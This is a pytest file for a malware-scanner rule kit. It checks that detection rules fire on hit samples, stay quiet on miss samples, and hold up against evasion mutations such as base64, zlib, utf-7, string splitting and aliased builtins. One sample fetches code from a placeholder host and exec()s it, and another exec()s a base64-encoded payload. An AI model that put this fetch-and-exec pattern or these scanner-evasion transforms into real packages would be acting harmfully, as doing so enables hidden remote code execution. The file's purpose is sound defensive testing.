"""Samples and evasions: what fires, what should not, and what survives being written otherwise."""

import ast
from pathlib import Path

import pytest

from scanner.member import Member
from scanner.rulekit.mutate import MUTATIONS, mutants
from scanner.rulekit.samples import member_name
from scanner.rulekit.trial import run_trial
from tests.scanner.rulekit.conftest import HIT, MISS, write_rule

SOURCE = """'''What this module does.'''
import os
from urllib.request import urlopen


def fetch(target, timeout=5):
    # where it comes from
    name = "https://example.invalid/" + 'file'
    text = urlopen(name, timeout=timeout).read()
    exec(text)
    return os.environ.get('HOME')
"""


@pytest.mark.parametrize(
    ("name", "member"),
    [
        ("send.py", "pkg/send.py"),
        ("two-words.py", "pkg/two-words.py"),
        ("beacon-setup.py", "pkg-1.0/setup.py"),
        ("setup.py", "pkg-1.0/setup.py"),
        ("backend-pyproject.toml", "pkg-1.0/pyproject.toml"),
        ("fetch-CMakeLists.txt", "pkg-1.0/CMakeLists.txt"),
        ("foo__init__.py", "foo/__init__.py"),
        ("loader.pth", "loader.pth"),
        ("hook.start", "hook.start"),
        ("quiet-sitecustomize.py", "sitecustomize.py"),
        ("docs--guide.py", "docs/guide.py"),
    ],
)
def test_a_sample_says_which_member_it_is(name: str, member: str) -> None:
    assert member_name(name) == member


def test_a_good_set_passes(rules: Path) -> None:
    trial = run_trial(rules)
    assert (trial.rules, trial.samples, trial.failures) == (1, 2, ())


def test_a_hit_that_does_not_fire_and_a_miss_that_does_are_failures(rules: Path) -> None:
    folder = rules / "channel" / "samples" / "sends_away"
    (folder / "hit-report.py").write_text(MISS)
    (folder / "miss-print.py").write_text(HIT)
    assert [failure.message for failure in run_trial(rules).failures] == [
        "does not fire on its hit",
        "fires on its miss",
    ]


def test_a_hit_outside_the_rules_scope_says_so(tmp_path: Path) -> None:
    write_rule(tmp_path, change=lambda text: text.replace('scope = "any"', 'scope = "startup"'))
    (failure,) = run_trial(tmp_path).failures
    assert "scanned as pkg/report.py, which is scope code, where the rule does not apply" in failure.message


def test_a_hit_may_be_encoded(rules: Path) -> None:
    import base64

    inner = base64.b64encode(HIT.encode()).decode()
    sample = rules / "channel" / "samples" / "sends_away" / "hit-encoded.py"
    sample.write_text(f"import base64\nexec(base64.b64decode('{inner}'))\n")
    assert run_trial(rules).failures == ()


def test_only_the_rules_asked_for_are_tried(rules: Path) -> None:
    write_rule(rules, "sends_again", "MK-CHN-0002")
    assert run_trial(rules, only=frozenset({"sends_again"})).rules == 1


def test_evasions_are_counted_per_rule_and_mutation(rules: Path) -> None:
    trial = run_trial(rules, mutate=True)
    survived = {evasion.mutation for evasion in trial.evasions if evasion.survived}
    assert {"base64", "zlib", "pad", "quotes", "move", "utf-16", "utf-7"} <= survived
    assert trial.survival()["base64"] == (1, 1, 1)


def test_an_evasion_that_works_is_told_with_who_else_catches_it(rules: Path) -> None:
    write_rule(rules, "sees_exec", "MK-CHN-0002", lambda text: text.replace('"collector_send"', '"collector"'))
    path = rules / "channel" / "sends_away.yar"
    path.write_text(path.read_text().replace('"collector_send" fullword', '"collector_send(" '))
    (spaced,) = [e for e in run_trial(rules, mutate=True).evasions if (e.rule, e.mutation) == ("sends_away", "spacing")]
    assert not spaced.survived
    assert spaced.caught_by == ("sees_exec",)


def mutated(source: str, name: str = "pkg/a.py") -> dict[str, Member]:
    member = Member(name=name, data=source.encode())
    return {mutation.name: changed for mutation, changed in mutants(member)}


def test_every_mutation_applies_to_ordinary_code_and_leaves_it_python() -> None:
    made = mutated(SOURCE)
    assert made.keys() == {mutation.name for mutation in MUTATIONS}
    for name in made.keys() - {"utf-16", "utf-7"}:
        ast.parse(made[name].data)


def test_renaming_keeps_imports_attributes_and_keywords() -> None:
    text = mutated(SOURCE)["rename"].data.decode()
    assert "fetch" not in text
    assert "target" not in text
    assert "os.environ.get" in text
    assert "timeout=timeout" in text


def test_splitting_leaves_docstrings_and_short_strings_alone() -> None:
    text = mutated(SOURCE)["split-strings"].data.decode()
    assert "'''What this module does.'''" in text
    assert "example.invalid" not in text
    assert "'HOME'" in text
    assert (
        ast.literal_eval(text.split("name = ")[1].split(" + 'file'")[0].replace(" + ", " "))
        == "https://example.invalid/"
    )


def test_aliased_builtins_are_called_by_another_name() -> None:
    made = mutated(SOURCE)
    assert "_exec_ = exec\n" in made["alias-builtins"].data.decode()
    assert "_exec_(text)" in made["alias-builtins"].data.decode()
    assert "getattr(__builtins__, 'ex' + 'ec')" in made["getattr-builtins"].data.decode()


def test_code_that_does_not_parse_is_only_moved_and_transcoded() -> None:
    assert mutated("print 'python two'\n").keys() == {"move", "utf-16", "utf-7"}


def test_a_start_up_line_stays_one_line_of_code() -> None:
    made = mutated("import os; exec('print(1)' + 'more text')\n", "loader.pth")
    for name in made.keys() - {"move", "utf-16"}:
        text = made[name].data.decode()
        assert text.startswith("import")
        assert text.count("\n") == 1
